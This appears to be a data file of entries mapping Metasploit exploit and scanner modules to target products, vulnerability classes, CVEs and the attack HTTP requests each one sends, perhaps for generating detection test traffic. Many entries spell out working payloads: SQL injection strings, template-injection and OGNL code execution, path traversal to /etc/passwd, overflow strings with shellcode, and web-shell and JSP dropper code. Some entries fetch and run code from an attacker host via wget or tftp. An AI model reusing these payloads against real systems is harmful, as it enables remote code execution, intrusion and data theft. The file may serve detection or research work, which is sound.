E('modules/exploits/multi/http/webdav_upload_php.rb', 'XAMPP WebDAV', 'file-upload', 'CVE-2012-10062', 'PUT', lambda c: '/webdav/%s.php' % c.an(7), 'body-not-logged')
E('modules/auxiliary/scanner/http/dlink_user_agent_backdoor.rb', 'D-Link DIR-100/DI-524 (Alphanetworks)', 'auth-bypass', '-', 'GET', '/', 'user-agent', ua='xmlset_roodkcableoj28840ybtide')
E('modules/auxiliary/scanner/http/drupal_views_user_enum.rb', 'Drupal Views', 'info-disclosure', '-', 'GET', lambda c: '/?q=admin/views/ajax/autocomplete/user/' + c.r.choice('abcdefghijklmnopqrstuvwxyz'), 'query')
E('modules/exploits/linux/http/eyesofnetwork_autodiscovery_rce.rb', 'EyesOfNetwork', 'sqli', 'CVE-2020-8656', 'GET', lambda c: '/eonapi/getApiKey?username=' + c.q("' union select 1,'admin','%s',0,0,1,1,8 or '" % c.h(32)) + '&password=' + c.a(10), 'query')
E('modules/exploits/unix/webapp/opennetadmin_ping_cmd_injection.rb', 'OpenNetAdmin', 'rce', 'CVE-2019-25065', 'POST', '/ona/login.php', 'body-not-logged')
E('modules/exploits/multi/http/jboss_invoke_deploy.rb', 'JBoss AS', 'deserialization', 'CVE-2007-1036', 'POST', '/invoker/JMXInvokerServlet', 'body-not-logged')
S('modules/auxiliary/scanner/http/rfcode_reader_enum.rb', 'not-exploit')
S('modules/auxiliary/scanner/http/sap_businessobjects_user_enum.rb', 'not-exploit')
E('modules/auxiliary/gather/vbulletin_getindexablecontent_sqli.rb', 'vBulletin', 'sqli', 'CVE-2020-12720', 'POST', '/ajax/api/content_infraction/getIndexableContent', 'body-not-logged')
E('modules/exploits/unix/webapp/tikiwiki_graph_formula_exec.rb', 'TikiWiki', 'rce', 'CVE-2007-5423', 'GET', lambda c: c.tiki_graph(), 'query', ua='Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)')
E('modules/exploits/windows/http/avaya_ccr_imageupload_exec.rb', 'Avaya IP Office CCR', 'file-upload', 'CVE-2012-3811', 'POST', '/CCRWebClient/Wallboard/ImageUpload.ashx', 'body-not-logged')
E('modules/exploits/multi/http/stunshell_eval.rb', 'STUNSHELL web shell', 'rce', '-', 'POST', '/IDC.php', 'body-not-logged')
E('modules/exploits/windows/http/northstar_c2_xss_to_agent_rce.rb', 'NorthStar C2', 'xss', 'CVE-2024-28741', 'POST', lambda c: '/login.php?sid=' + c.q(c.b64(c.xor('N*/</script><q', 'northstar'))), 'query')
E('modules/exploits/multi/http/coldfusion_ckeditor_file_upload.rb', 'Adobe ColdFusion', 'file-upload', 'CVE-2018-15961', 'POST', '/cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/upload.cfm', 'body-not-logged')
E('modules/exploits/multi/http/cockpit_cms_rce.rb', 'Cockpit CMS', 'sqli', 'CVE-2020-35846', 'POST', '/auth/requestreset', 'body-not-logged')
S('modules/exploits/linux/http/acronis_cyber_infra_cve_2023_45249.rb', 'not-http')
E('modules/auxiliary/gather/avideo_catname_sqli.rb', 'AVideo', 'sqli', 'CVE-2026-28501', 'POST', '/objects/videos.json.php', 'body-not-logged')
E('modules/exploits/multi/http/wp_plugin_supsystic_contact_form_rce.rb', 'Supsystic Contact Form (WordPress plugin)', 'ssti', 'CVE-2026-4257', 'GET', lambda c: '/wordpress/index.php/sample-page/?cfsPreFill=1&first_name=' + c.q('{%set a%}UTF-8{%endset%}{%set b%}BASE64{%endset%}{%set p%}' + c.b64(c.cmd()) + '{%endset%}{%set p = p|convert_encoding((a), (b))%}{%set e%}exec{%endset%}{{_self.env.registerUndefinedFilterCallback(e|lower)}}{{_self.env.getFilter(p)}}'), 'query')
E('modules/exploits/multi/http/traq_plugin_exec.rb', 'Traq', 'rce', 'CVE-2011-10013', 'POST', '/admincp/plugins.php?newhook', 'body-not-logged')
E('modules/auxiliary/scanner/http/clansphere_traversal.rb', 'ClanSphere', 'lfi', 'CVE-2012-10034', 'GET', '/clansphere_2011.3/index.php', 'header-not-logged')
E('modules/exploits/windows/http/shoutcast_format.rb', 'SHOUTcast DNAS', 'bof', 'CVE-2004-1373', 'GET', lambda c: (lambda p: '/content/%#0' + str(1046 - len(p)) + 'x' + p + '\xeb\x06' + c.an(2) + '\x8b\x1e\x40\x00' + '\xe9\x2d\xff\xff\xff' + '#0100x.mp3')(c.sc(232, '\x00\x3a\x26\x3f\x25\x23\x20\x0a\x0d\x2f\x2b\x0b\x5c')), 'path')
E('modules/exploits/linux/http/airties_login_cgi_bof.rb', 'Airties modem', 'bof', 'CVE-2015-2797', 'POST', '/cgi-bin/login', 'body-not-logged')
S('modules/auxiliary/gather/chrome_debugger.rb', 'not-http')
S('modules/exploits/multi/http/lucee_scheduled_job.rb', 'login')
E('modules/auxiliary/scanner/http/joomla_ecommercewd_sqli_scanner.rb', 'Joomla ECommerce WD', 'sqli', 'CVE-2015-2562', 'POST', '/index.php?option=com_ecommercewd&controller=products&task=displayproducts&Itemid=-1', 'body-not-logged')
E('modules/exploits/multi/http/magento_unserialize.rb', 'Magento', 'deserialization', 'CVE-2016-4010', 'POST', lambda c: '/rest/V1/guest-carts/%s/set-payment-information' % c.h(32), 'body-not-logged')
E('modules/auxiliary/scanner/http/goahead_traversal.rb', 'GoAhead', 'lfi', 'CVE-2014-9707', 'GET', '../' * 5 + '.x/' * 5 + 'etc/passwd', 'path', status=400)
E('modules/exploits/linux/http/jenkins_cli_deserialization.rb', 'Jenkins', 'deserialization', 'CVE-2017-1000353', 'POST', '/cli', 'body-not-logged')
E('modules/auxiliary/scanner/http/nginx_source_disclosure.rb', 'nginx (Windows)', 'info-disclosure', 'CVE-2010-2263', 'GET', '/admin.php%3a%3a%24data', 'path')
E('modules/exploits/windows/http/easyfilesharing_post.rb', 'Easy File Sharing HTTP Server', 'bof', 'CVE-2025-34096', 'POST', '/sendemail.ghp', 'body-not-logged', ua='-', status=400)
S('modules/auxiliary/scanner/http/rails_mass_assignment.rb', 'not-exploit')
S('modules/auxiliary/gather/pimcore_creds_sqli.rb', 'login')
E('modules/exploits/linux/http/atutor_filemanager_traversal.rb', 'ATutor', 'auth-bypass', 'CVE-2016-2555', 'POST', '/ATutor/confirm.php?e=0&id=&m=&member_id=1', 'body-not-logged', ua='-')
E('modules/exploits/windows/http/hp_autopass_license_traversal.rb', 'HP AutoPass License Server', 'file-upload', 'CVE-2013-6221', 'POST', '/autopass/cs/pdfupload', 'body-not-logged')
E('modules/exploits/multi/http/navigate_cms_rce.rb', 'Navigate CMS', 'file-upload', 'CVE-2018-17553', 'POST', lambda c: '/navigate/navigate_upload.php?' + '&'.join(c.shuffled(['session_id=' + c.al(26), 'engine=picnik', 'id=../../../navigate_info.php'])), 'query')
E('modules/exploits/linux/http/linksys_apply_cgi.rb', 'Linksys WRT54', 'bof', 'CVE-2005-2799', 'POST', '/apply.cgi', 'body-not-logged')
E('modules/exploits/linux/http/cisco_ucs_cloupia_script_rce.rb', 'Cisco UCS Director', 'lfi', 'CVE-2020-3250', 'GET', lambda c: '/cloupia/api/rest?opName=userAPI%3auserAPIDownloadFile&opData=' + c.q('{"param0":"../../../../../../../../opt/infra/idaccessmgr/logfile.txt"}'), 'query')
E('modules/auxiliary/gather/upsmon_traversal.rb', 'POWERCOM UPSMON PRO', 'lfi', 'CVE-2022-38120', 'GET', '/../../../../Users/Public/UPSMON-Pro/UPSMON.ini', 'path', status=400)
E('modules/auxiliary/gather/gitlab_tags_rss_feed_email_disclosure.rb', 'GitLab', 'info-disclosure', 'CVE-2023-5612', 'GET', lambda c: '/%s/%s/-/tags?format=atom' % (c.r.choice(['infra', 'platform', 'web', 'devops']), c.r.choice(['deploy-scripts', 'api-gateway', 'helm-charts', 'website'])), 'query')
S('modules/exploits/multi/http/rails_secret_deserialization.rb', 'login')
E('modules/exploits/linux/http/webcalendar_settings_exec.rb', 'WebCalendar', 'rce', 'CVE-2012-1495', 'POST', '/WebCalendar-1.2.4/install/index.php', 'body-not-logged')
E('modules/exploits/multi/http/bassmaster_js_injection.rb', 'Bassmaster (hapi plugin)', 'rce', 'CVE-2014-7205', 'POST', '/batch', 'body-not-logged')
E('modules/exploits/multi/http/apache_flink_jar_upload_exec.rb', 'Apache Flink', 'file-upload', '-', 'POST', '/jars/upload', 'body-not-logged')
E('modules/exploits/multi/http/pentaho_business_server_authbypass_and_ssti.rb', 'Pentaho Business Server', 'ssti', 'CVE-2022-43769', 'GET', lambda c: '/pentaho/api/ldap/config/ldapTreeNodeChildren/require' + c.r.choice(['-cfg', '-js', '']) + c.r.choice(['.', c.an(1)]) + 'js?' + c.qa('url') + '=' + c.qa('#{T(java.lang.Runtime).getRuntime().exec(new String[]{ "/bin/sh", "-c", \'' + c.cmd_openssl().replace("'", "''") + "'})}") + '&' + c.qa('mgrDn') + '=' + c.qa(c.an(c.rng(1, 24))) + '&' + c.qa('pwd') + '=' + c.qa(c.an(c.rng(1, 24))), 'query')
E('modules/exploits/multi/http/clinic_pms_fileupload_rce.rb', 'Clinic Patient Management System', 'file-upload', 'CVE-2022-40471', 'POST', '/pms/users.php', 'body-not-logged')
S('modules/exploits/linux/http/sonicwall_sma1000_wsproxy_rce.rb', 'not-http')
S('modules/exploits/multi/http/jenkins_xstream_deserialize.rb', 'product-cap')
S('modules/auxiliary/gather/leakix_search.rb', 'not-exploit')
E('modules/exploits/multi/http/sysaid_rdslogs_file_upload.rb', 'SysAid Help Desk', 'file-upload', 'CVE-2015-2995', 'POST', lambda c: '/sysaid/rdslogs?rdsName=../../../../tomcat/webapps/%s.war%%00' % c.an(c.rng(4, 31)), 'query')
E('modules/exploits/windows/http/advantech_iview_networkservlet_cmd_inject.rb', 'Advantech iView', 'rce', 'CVE-2022-2143', 'GET', lambda c: '/iView3/%s.jsp?%s=cmd.exe&%s=/c&%s=' % (c.a(c.rng(5, 12)), c.a(c.rng(3, 8)), c.a(c.rng(3, 8)), c.a(c.rng(3, 8))) + c.q('echo %s>>%%TEMP%%\\%s.b64' % (c.exe_b64(c.rng(900, 1400)), c.a(5))), 'query')
E('modules/auxiliary/gather/qconvergeconsole_traversal.rb', 'Marvell QConvergeConsole', 'lfi', 'CVE-2025-6793', 'GET', '/QConvergeConsole/com.qlogic.qms.hba.gwt.Main/QLogicDownloadServlet?folder=C%3A%5CWindows&file=win.ini', 'query')
E('modules/exploits/unix/webapp/mambo_cache_lite.rb', 'Mambo', 'rfi', 'CVE-2008-2905', 'GET', lambda c: '/includes/Cache/Lite/Output.php?mosConfig_absolute_path=' + c.tohex(c.include_url()), 'query')
E('modules/exploits/unix/webapp/vbulletin_vote_sqli_exec.rb', 'vBulletin', 'sqli', 'CVE-2013-3522', 'POST', '/index.php/ajax/api/reputation/vote', 'body-not-logged')
E('modules/exploits/windows/http/dnn_cookie_deserialization_rce.rb', 'DotNetNuke', 'deserialization', 'CVE-2017-9822', 'GET', '/__', 'header-not-logged')
E('modules/auxiliary/scanner/http/oracle_demantra_file_retrieval.rb', 'Oracle Demantra', 'auth-bypass', 'CVE-2013-5877', 'POST', '/demantra/common/loginCheck.jsp/../../GraphServlet', 'path')
E('modules/exploits/windows/http/hp_imc_bims_upload.rb', 'HP Intelligent Management Center', 'file-upload', 'CVE-2013-4822', 'PUT', lambda c: '/upload/upload?fileName=%s.jsp' % c.an(c.rng(4, 31)), 'body-not-logged')
E('modules/exploits/unix/webapp/php_eval.rb', 'generic PHP eval()', 'rce', '-', 'GET', lambda c: '/test.php?eval=' + c.q('error_reporting(0);eval($_SERVER["HTTP_X_%s"]);' % c.au(c.rng(10, 19))), 'query')
E('modules/exploits/linux/http/spark_unauth_rce.rb', 'Apache Spark', 'rce', 'CVE-2018-11770', 'POST', '/v1/submissions/create', 'body-not-logged')
E('modules/exploits/multi/http/avideo_wwbnindex_unauth_rce.rb', 'AVideo', 'lfi', 'CVE-2024-31819', 'POST', '/plugin/WWBNIndex/submitIndex.php', 'body-not-logged')
E('modules/exploits/multi/http/spip_connect_exec.rb', 'SPIP', 'rce', 'CVE-2013-4557', 'POST', '/spip.php', 'body-not-logged')
E('modules/exploits/multi/http/manageengine_search_sqli.rb', 'ManageEngine Security Manager Plus', 'sqli', '-', 'POST', lambda c: '/STATE_ID/%s/jsp/xmlhttp/persistence.jsp?reqType=AdvanceSearch&SUBREQUEST=XMLHTTP' % c.d(5), 'body-not-logged')
E('modules/auxiliary/scanner/http/concrete5_member_list.rb', 'Concrete5', 'info-disclosure', '-', 'GET', '/index.php/members', 'path')
E('modules/exploits/multi/http/majordomo_cmd_injection_rce.rb', 'MajorDoMo', 'rce', 'CVE-2026-27175', 'GET', lambda c: '/rc/?command=shutdown&param=' + c.q('$(%s)' % c.cmd()), 'query')
E('modules/exploits/windows/http/sybase_easerver.rb', 'Sybase EAServer', 'bof', 'CVE-2005-2297', 'GET', lambda c: (lambda cr, p: '/WebConsole/Login.jsp?' + cr[:3816] + '\xeb\x06' + cr[3818:3820] + '\xff\x48\x45\x6d' + p + cr[3824 + len(p):])(c.an(5000), c.alpha_mixed(700)), 'query')
E('modules/exploits/linux/http/sophos_utm_webadmin_sid_cmd_injection.rb', 'Sophos UTM', 'rce', 'CVE-2020-25223', 'POST', '/var', 'body-not-logged')
E('modules/exploits/windows/http/solarwinds_storage_manager_sql.rb', 'SolarWinds Storage Manager', 'sqli', 'CVE-2012-2576', 'POST', '/LoginServlet', 'body-not-logged')
E('modules/exploits/multi/http/vtiger_install_rce.rb', 'Vtiger CRM', 'rce', 'CVE-2014-2268', 'GET', lambda c: '/index.php?module=Install&view=Index&mode=Step5&db_name=' + c.q("127.0.0.1'; if(isset($_GET['%s'])){ %s } // " % (c.h(10), c.php())), 'query')
E('modules/auxiliary/scanner/http/oracle_demantra_database_credentials_leak.rb', 'Oracle Demantra', 'info-disclosure', 'CVE-2013-5795', 'GET', '/demantra/common/loginCheck.jsp/../../ServerDetailsServlet?UAK=406EDC5447A3A43551CDBA06535FB6A661F4DC1E56606915AC4E382D204B8DC1', 'path')
E('modules/exploits/unix/webapp/foswiki_maketext.rb', 'Foswiki', 'rce', 'CVE-2012-6329', 'POST', lambda c: '/bin/save/Sandbox/%s%s' % (c.al(3).capitalize(), c.al(3).capitalize()), 'body-not-logged')
E('modules/exploits/windows/http/disksavvy_get_bof.rb', 'DiskSavvy Enterprise', 'bof', 'CVE-2017-6187', 'GET', lambda c: (lambda bad, tag: '\x90' * 10 + tag + tag + c.sc(381, bad) + c.a(2478 - 389) + '\xeb\x06' + c.sc(2, bad) + c.sc(4, bad) + '\x90' * 8 + c.sc(32, bad) + c.a(4500))('\x00\x09\x0a\x0d\x20', c.a(4)), 'path')
E('modules/exploits/multi/http/shiro_rememberme_v124_deserialize.rb', 'Apache Shiro', 'deserialization', 'CVE-2016-4437', 'GET', '/', 'header-not-logged')
S('modules/exploits/windows/http/softing_sis_rce.rb', 'login')
E('modules/exploits/multi/http/phpstudy_backdoor_rce.rb', 'phpStudy (backdoored php_xmlrpc.dll)', 'rce', 'CVE-2025-34061', 'GET', '/l.php', 'header-not-logged')
E('modules/exploits/multi/http/opencats_installer_rce.rb', 'OpenCATS', 'rce', 'CVE-2026-27760', 'POST', '/ajax.php?f=install%3aui&a=databaseConnectivity', 'body-not-logged')
E('modules/exploits/multi/http/struts_code_exec_exception_delegator.rb', 'Apache Struts 2', 'rce', 'CVE-2012-0391', 'GET', lambda c: '/HelloWorldStruts2/hello?name=test&id=\'%2b(%23_memberAccess["allowStaticMethodAccess"]=true,@java.lang.Runtime@getRuntime().exec("' + c.q('tftp -i %s GET %s.exe' % (c.lhost, c.a(8))) + '"))%2b\'', 'query')
E('modules/exploits/multi/http/oracle_reports_rce.rb', 'Oracle Reports', 'rce', 'CVE-2012-3152', 'GET', lambda c: '/reports/rwservlet?report=test.rdf&desformat=html&destype=file&desname=/u01/app/oracle/Middleware/user_projects/domains/ClassicDomain/servers/WLS_REPORTS/tmp/_WL_user/reports_11.1.1.2.0/y0cg8a/war/images/%s.jsp&JOBTYPE=rwurl&URLPARAMETER=http://%s:8080/%s' % (c.a(c.rng(8, 15)), c.lhost, c.an(c.rng(8, 12))), 'query')
E('modules/exploits/windows/http/desktopcentral_file_upload.rb', 'ManageEngine Desktop Central', 'file-upload', 'CVE-2013-7390', 'POST', lambda c: '/agentLogUploader?computerName=DesktopCentral&domainName=webapps&customerId=..&filename=%s.jsp' % c.al(8), 'query')
E('modules/exploits/linux/http/dlink_hnap_bof.rb', 'D-Link DIR-505 (HNAP)', 'bof', 'CVE-2014-3936', 'POST', '/HNAP1/', 'body-not-logged')
E('modules/auxiliary/gather/splunk_raw_server_info.rb', 'Splunk', 'info-disclosure', 'CVE-2018-11409', 'GET', '/en-US/splunkd/__raw/services/server/info/server-info?output_mode=json', 'query')
S('modules/exploits/windows/http/exchange_ecp_dlp_policy.rb', 'login')
E('modules/exploits/multi/http/phpscheduleit_start_date.rb', 'phpScheduleIt', 'rce', 'CVE-2008-6132', 'POST', '/phpscheduleit/', 'body-not-logged', ref='/phpscheduleit/')
E('modules/exploits/unix/webapp/squash_yaml_exec.rb', 'Squash', 'deserialization', 'CVE-2013-5036', 'POST', '/api/1.0/deobfuscation', 'body-not-logged')
E('modules/exploits/multi/http/gestioip_exec.rb', 'GestioIP', 'rce', 'CVE-2013-10039', 'GET', lambda c: (lambda f: '/gestioip/ip_checkhost.cgi?ip=2607:f0d0:$(echo${IFS}' + c.b64(c.cmd()) + '|base64${IFS}--decode|tee${IFS}' + f + '&&sh${IFS}' + f + '):0000:0000:0000:0000:0004&hostname=fds&client_id=1&ip_version=')(c.a(8)), 'query')
E('modules/exploits/windows/http/novell_mdm_lfi.rb', 'Novell ZENworks Mobile Management', 'lfi', 'CVE-2013-1081', 'POST', lambda c: '/DUSAP.php?language=' + c.q('res/languages/../../../../php/temp/sess_' + c.a(8)) + '&' + c.a(8) + '=' + c.q("$wdir=getcwd().'\\\\..\\\\..\\\\php\\\\temp\\\\';file_put_contents($wdir.'%s.exe',base64_decode(file_get_contents('php://input')));" % c.a(8)), 'query')
E('modules/exploits/multi/http/zenworks_configuration_management_upload.rb', 'Novell ZENworks Configuration Management', 'file-upload', 'CVE-2015-0779', 'POST', lambda c: '/zenworks/UploadServlet?uid=../../../opt/novell/zenworks/share/tomcat/webapps/&filename=%s.war' % c.an(c.rng(4, 31)), 'query')
E('modules/exploits/multi/http/open_web_analytics_rce.rb', 'Open Web Analytics', 'info-disclosure', 'CVE-2022-24637', 'GET', lambda c: '/owa-data/caches/1/owa_user/%s.php' % hashlib.md5(b'user_id1').hexdigest(), 'path')
E('modules/exploits/linux/http/pandora_fms_exec.rb', 'Pandora FMS', 'rce', 'CVE-2014-125124', 'POST', '/anyterm-module', 'body-not-logged')
E('modules/exploits/windows/http/altn_webadmin.rb', 'Alt-N WebAdmin', 'bof', 'CVE-2003-0471', 'POST', '/WebAdmin.DLL?View=Logon', 'body-not-logged')
E('modules/exploits/linux/http/imperva_securesphere_exec.rb', 'Imperva SecureSphere', 'rce', 'CVE-2018-16660', 'POST', '/pws/impcli', 'body-not-logged')
E('modules/exploits/unix/webapp/libretto_upload_exec.rb', 'LibrettoCMS', 'file-upload', 'CVE-2013-10054', 'POST', '/librettoCMS_v.2.2.2/adm/ui/js/ckeditor/plugins/pgrfilemanager/php/upload.php?type=all%20files', 'body-not-logged')
E('modules/auxiliary/scanner/http/strapi_3_password_reset.rb', 'Strapi', 'auth-bypass', 'CVE-2019-18818', 'POST', '/admin/auth/reset-password', 'body-not-logged')
E('modules/exploits/unix/webapp/byob_unauth_rce.rb', 'BYOB (Build Your Own Botnet)', 'file-upload', 'CVE-2024-45256', 'POST', '/api/file/add', 'body-not-logged')
E('modules/auxiliary/scanner/http/dolibarr_16_contact_dump.rb', 'Dolibarr', 'info-disclosure', 'CVE-2023-33568', 'GET', '/public/ticket/ajax/ajax.php?action=getContacts&email=%25', 'query')
E('modules/exploits/multi/http/v0pcr3w_exec.rb', 'v0pCr3w web shell', 'rce', '-', 'GET', lambda c: '/jos.php?osc=' + c.q(c.b64(c.cmd())), 'query')
E('modules/exploits/linux/http/dlink_dir850l_unauth_exec.rb', 'D-Link DIR-850L', 'info-disclosure', 'CVE-2019-17508', 'POST', '/hedwig.cgi', 'body-not-logged')
S('modules/auxiliary/scanner/http/fortimail_login_bypass_detection.rb', 'not-exploit')
E('modules/auxiliary/gather/cerberus_helpdesk_hash_disclosure.rb', 'Cerberus Helpdesk', 'info-disclosure', '-', 'GET', '/storage/tmp/devblocks_cache---ch_workers', 'path')
E('modules/exploits/windows/http/manageengine_connectionid_write.rb', 'ManageEngine Desktop Central', 'file-upload', 'CVE-2015-8249', 'POST', lambda c: '/fileupload?connectionId=%s/../../../../../jspf/%s.jsp%%00&resourceId=%s&action=rds_file_upload&computerName=%s&customerId=%s' % (c.a(1), c.a(5), c.a(1), c.a(c.rng(5, 14)), c.d(c.rng(5, 14))), 'query')
E('modules/exploits/linux/http/dnalims_admin_exec.rb', 'dnaLIMS', 'rce', 'CVE-2017-6526', 'POST', '/cgi-bin/dna/sysAdmin.cgi', 'body-not-logged')
E('modules/exploits/linux/http/vinchin_backup_recovery_cmd_inject.rb', 'Vinchin Backup & Recovery', 'rce', 'CVE-2023-45498', 'POST', '/api/?m=30&f=checkIpExists&k=6e24cc40bfdb6963c04a4f1983c8af71', 'body-not-logged')
E('modules/auxiliary/scanner/http/apache_activemq_source_disclosure.rb', 'Apache ActiveMQ', 'info-disclosure', 'CVE-2010-1587', 'GET', '/admin/index.jsp', 'path')
E('modules/exploits/linux/http/cfme_manageiq_evm_upload_exec.rb', 'Red Hat CloudForms', 'file-upload', 'CVE-2013-2068', 'POST', '/agent/linuxpkgs', 'body-not-logged')
E('modules/exploits/multi/http/xerte_unauthenticated_importlanguage.rb', 'Xerte Online Toolkits', 'file-upload', '-', 'POST', '/xerteonlinetoolkits/website_code/php/language/import_language.php', 'body-not-logged')
E('modules/exploits/windows/http/oracle_beehive_evaluation.rb', 'Oracle Beehive', 'file-upload', 'CVE-2010-4417', 'GET', lambda c: (lambda exe: '/voice-servlet/prompt-qa/showRecxml.jsp?evaluation=' + c.q('<%@ page import="java.io.*" %><% ByteArrayOutputStream buf = new ByteArrayOutputStream(); BufferedReader reader = request.getReader(); int tmp; while ((tmp = reader.read()) != -1) { buf.write(tmp); } FileOutputStream fostream = new FileOutputStream("' + exe + '"); buf.writeTo(fostream); fostream.close(); Runtime.getRuntime().exec("' + exe + '");%>') + '&recxml=..\\' + c.a(5) + '.jsp%00')(c.a(5) + '.exe'), 'query')
E('modules/auxiliary/scanner/http/litellm_proxy_sqli.rb', 'LiteLLM Proxy', 'sqli', 'CVE-2026-42208', 'POST', '/v1/chat/completions', 'header-not-logged')
E('modules/exploits/multi/http/builderengine_upload_exec.rb', 'BuilderEngine', 'file-upload', 'CVE-2025-34100', 'POST', '/themes/dashboard/assets/plugins/jquery-file-upload/server/php/', 'body-not-logged')
E('modules/exploits/unix/webapp/tikiwiki_upload_exec.rb', 'TikiWiki', 'file-upload', 'CVE-2025-34111', 'POST', '/tiki/vendor_extra/elfinder/php/connector.minimal.php', 'body-not-logged')
E('modules/exploits/multi/http/cisco_dcnm_upload.rb', 'Cisco Prime DCNM', 'file-upload', 'CVE-2013-5486', 'POST', '/cues_utility/charts/processImageSave.jsp', 'body-not-logged')
E('modules/exploits/windows/http/gitstack_rce.rb', 'GitStack', 'rce', 'CVE-2018-5955', 'GET', lambda c: '/web/index.php?p=%s.git&a=summary' % c.a(5), 'header-not-logged')
E('modules/exploits/multi/http/oracle_ats_file_upload.rb', 'Oracle Application Testing Suite', 'file-upload', '-', 'POST', '/olt/Login.do/../../olt/UploadFileUpload.do', 'path')
S('modules/auxiliary/gather/corpwatch_lookup_name.rb', 'not-exploit')
S('modules/exploits/windows/http/plex_unpickle_dict_rce.rb', 'login')
E('modules/exploits/linux/http/vcms_upload.rb', 'V-CMS', 'file-upload', 'CVE-2011-4828', 'POST', '/vcms/includes/inline_image_upload.php', 'body-not-logged')
E('modules/exploits/windows/http/intersystems_cache.rb', 'InterSystems Cache', 'bof', 'CVE-2009-20005', 'GET', lambda c: (lambda p: '/csp/sys/mgr/UtilConfigHome.csp=' + p + c.au(710 - len(p)) + '\xeb\x06\x1a\x79\xf2\x6f' + '\x90' * 8 + '\xe9\x44\xfd\xff\xff' + c.au(len(p)))(c.sc(360, '\x00\x3a\x26\x3f\x0c\x25\x23\x20\x0a\x0d\x09\x2f\x2b\x2e\x0b\x5c')), 'path')
E('modules/exploits/windows/http/integard_password_bof.rb', 'Race River Integard', 'bof', 'CVE-2010-5333', 'POST', '/LoginAdmin', 'body-not-logged')
E('modules/exploits/windows/http/apache_tika_jp2_jscript.rb', 'Apache Tika', 'rce', 'CVE-2018-1335', 'PUT', '/meta', 'header-not-logged')
E('modules/exploits/linux/http/ibm_qradar_unauth_rce.rb', 'IBM QRadar SIEM', 'rce', 'CVE-2018-1418', 'GET', lambda c: (lambda n: '/ForensicsAnalysisServlet/?forensicsManagedHostIps=127.0.0.1/forensics/file.php%3f%26&action=get&slavefile=true&pcap[0][pcap]=/' + c.al(c.rng(2, 6)) + '/' + c.al(c.rng(2, 6)) + '&pcap[1][pcap]=' + c.qa('$(mkdir -p /store/configservices/staging/updates && wget --no-check-certificate -O /store/configservices/staging/updates/%s http://%s:4448/%s && /bin/bash /store/configservices/staging/updates/%s)' % (n, c.lhost, n, n)))(c.al(c.rng(3, 5))), 'query')
E('modules/exploits/linux/http/github_enterprise_secret.rb', 'GitHub Enterprise', 'deserialization', 'CVE-2017-18365', 'GET', '/', 'header-not-logged')
S('modules/exploits/windows/http/prtg_authenticated_rce.rb', 'login')
S('modules/exploits/linux/http/panos_op_cmd_exec.rb', 'login')
E('modules/exploits/linux/http/apache_solr_backup_restore.rb', 'Apache Solr', 'file-upload', 'CVE-2023-50386', 'POST', lambda c: '/solr/admin/configs?action=UPLOAD&name=' + c.al(8), 'body-not-logged')
E('modules/exploits/windows/http/sepm_auth_bypass_rce.rb', 'Symantec Endpoint Protection Manager', 'file-upload', 'CVE-2015-1487', 'POST', lambda c: '/servlet/ConsoleServlet?ActionType=BinaryFile&Action=UploadPackage&PackageFile=../../../tomcat/webapps/ROOT/%s.exe&KnownHosts=.' % c.a(10), 'query')
E('modules/exploits/unix/webapp/open_flash_chart_upload_exec.rb', 'Open Flash Chart', 'file-upload', 'CVE-2009-4140', 'POST', lambda c: '/php-ofc-library/ofc_upload_image.php?name=%s.php' % c.an(c.rng(6, 15)), 'body-not-logged')
E('modules/exploits/windows/http/osb_uname_jlist.rb', 'Oracle Secure Backup', 'rce', 'CVE-2010-0904', 'GET', lambda c: '/property_box.php?type=Job&jlist=0%26' + c.q('tftp -i %s GET %s.exe' % (c.lhost, c.a(8))), 'query')
E('modules/exploits/linux/http/docker_daemon_tcp.rb', 'Docker Engine API', 'rce', '-', 'POST', lambda c: '/containers/create?name=' + c.h(12), 'body-not-logged')
E('modules/exploits/windows/http/zoho_password_manager_pro_xml_rpc_rce.rb', 'Zoho Password Manager Pro', 'deserialization', 'CVE-2022-35405', 'POST', '/xmlrpc', 'body-not-logged')
E('modules/exploits/linux/http/kaltura_unserialize_cookie_rce.rb', 'Kaltura', 'deserialization', 'CVE-2017-14143', 'GET', '/index.php/keditorservices/getAllEntries?list_type=15&entry_id=0_lahha4c9', 'header-not-logged')
S('modules/exploits/linux/http/vmware_vrli_rce.rb', 'not-http')
E('modules/exploits/linux/http/hp_van_sdn_cmd_inject.rb', 'HP VAN SDN Controller', 'rce', '-', 'POST', '/', 'body-not-logged')
E('modules/auxiliary/scanner/http/citrix_netscaler_cve_2026_3055.rb', 'Citrix NetScaler ADC', 'info-disclosure', 'CVE-2026-3055', 'GET', '/wsfed/passive?wctx', 'header-not-logged')
E('modules/exploits/linux/http/wd_mycloud_unauthenticated_cmd_injection.rb', 'WD My Cloud', 'rce', 'CVE-2016-10108', 'POST', '/web/google_analytics.php', 'body-not-logged')
E('modules/exploits/unix/webapp/arkeia_upload_exec.rb', 'WD Arkeia appliance', 'file-upload', '-', 'POST', '/scripts/upload.php', 'body-not-logged')
E('modules/exploits/multi/http/manage_engine_dc_pmp_sqli.rb', 'ManageEngine Password Manager Pro', 'sqli', 'CVE-2014-3996', 'GET', lambda c: '/LinkViewFetchServlet.dat?sv=' + c.q('viewname";copy (select version()) to \'C:\\ManageEngine\\PMP\\webapps\\PassTrix\\%s.txt\';-- ' % c.al(8)), 'query')
E('modules/auxiliary/scanner/http/atlassian_crowd_fileaccess.rb', 'Atlassian Crowd', 'xxe', 'CVE-2012-2926', 'POST', '/crowd/services', 'body-not-logged')
E('modules/exploits/unix/webapp/datalife_preview_exec.rb', 'DataLife Engine', 'rce', 'CVE-2013-1412', 'POST', '/engine/preview.php', 'body-not-logged')
S('modules/exploits/linux/http/bludit_upload_images_exec.rb', 'login')
E('modules/exploits/unix/webapp/qtss_parse_xml_exec.rb', 'QuickTime Streaming Server', 'rce', 'CVE-2003-0050', 'POST', '/parse_xml.cgi', 'body-not-logged')
E('modules/auxiliary/gather/mongodb_js_inject_collection_enum.rb', 'MongoDB-backed PHP app', 'sqli', '-', 'GET', '/index.php?age=50"\'||this||\'', 'query')
E('modules/exploits/linux/http/hpe_oneview_rce.rb', 'HPE OneView', 'rce', 'CVE-2025-37164', 'PUT', '/rest/id-pools/executeCommand', 'body-not-logged')
E('modules/auxiliary/scanner/http/s40_traversal.rb', 'S40 CMS', 'lfi', 'CVE-2011-10009', 'GET', '/s40/index.php/?p=' + '/..' * 10 + '/etc/passwd%00', 'query')
